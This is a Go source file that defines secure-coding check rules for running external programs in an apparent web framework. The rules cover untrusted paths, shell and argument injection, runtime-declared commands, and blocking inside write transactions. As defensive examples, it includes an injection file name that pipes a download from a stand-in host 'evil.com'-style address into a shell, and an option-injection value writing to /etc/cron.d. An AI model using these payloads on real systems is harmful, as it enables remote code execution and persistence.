package command

import "github.com/merlon-web/merlon/check"

// The rules of the room.
var (
	RuleProgram = check.Rule{ID: "MRL-CMD-001", Property: check.Integrity, Severity: check.High,
		Title:  "a command that names no program",
		Why:    "a relative path is looked up in whatever folder the site was started in",
		Attack: "Whoever may write into that folder puts a program of this name there.",
		Wrong:  `command.New("./tools/resize")`, Right: `command.New("/usr/bin/pdftotext", "-", "-")`,
		Source: "CWE-426; OWASP, OS Command Injection Defense Cheat Sheet"}
	RuleShell = check.Rule{ID: "MRL-CMD-002", Property: check.Integrity, Severity: check.High,
		Title:  "data that would choose what is run",
		Why:    "a shell reads its input as code, programs like env or timeout run what an argument names, and ssh or psql take every argument for code",
		Attack: `A file name "; curl evil.test | sh" or an argument "/tmp/x" is run with the site's rights.`,
		Wrong:  `command.New("sh", "-c", "nice pdftotext \"$1\" -")`, Right: `command.New("pdftotext", "-", "-").Under("nice", "-n", "10")   // the file is its input`,
		Source: "CWE-78; OWASP ASVS 1.2.5; CVE-2024-24576 (batch files)"}
	RuleArgument = check.Rule{ID: "MRL-CMD-003", Property: check.Integrity, Severity: check.High,
		Title:  "an argument that the program would read as something else",
		Why:    "a value that begins with a dash is an option, and one with a NUL is cut off",
		Attack: `A visitor calls a file "--output=/etc/cron.d/x", and the program writes there.`,
		Wrong:  `command.New("/usr/bin/gzip").Run(ctx, nil, name)`, Right: `command.New("/usr/bin/gzip", "--").Run(ctx, nil, path)   // the path is the site's; ImageMagick and others read names with a colon as code: give them their input`,
		Source: "CWE-88; POSIX.1-2024, 12.2, guideline 10"}
	RuleSealed = check.Rule{ID: "MRL-CMD-004", Property: check.Integrity, Severity: check.High,
		Title:  "a command declared after the site started",
		Why:    "programs and options are part of the source, and nothing that a visitor sends may become one",
		Attack: "A string from a form is made a constant's type by a generic helper, and becomes a program.",
		Wrong:  "func handler(…) { c := command.New(…) }", Right: "var c = command.New(…)   // a package variable",
		Source: "CWE-78; OWASP ASVS 1.2.5"}
	RuleInWrite = check.Rule{ID: "MRL-CMD-005", Property: check.Availability, Severity: check.Medium,
		Title:  "a program run inside a write transaction",
		Why:    "every other visitor who writes would wait for it",
		Attack: "A picture that takes long to convert stops the whole site.",
		Wrong:  `resize.Run(w.Context(), …)`, Right: "in PostAfter's before, or in a job: merlon.Job(…)",
		Source: "CWE-400; OWASP ASVS 15.2.2"}
)

// Rules lists the rules of the room.
func Rules() []check.Rule {
	return []check.Rule{RuleProgram, RuleShell, RuleArgument, RuleSealed, RuleInWrite}
}

var _ = check.Known(Rules()...)
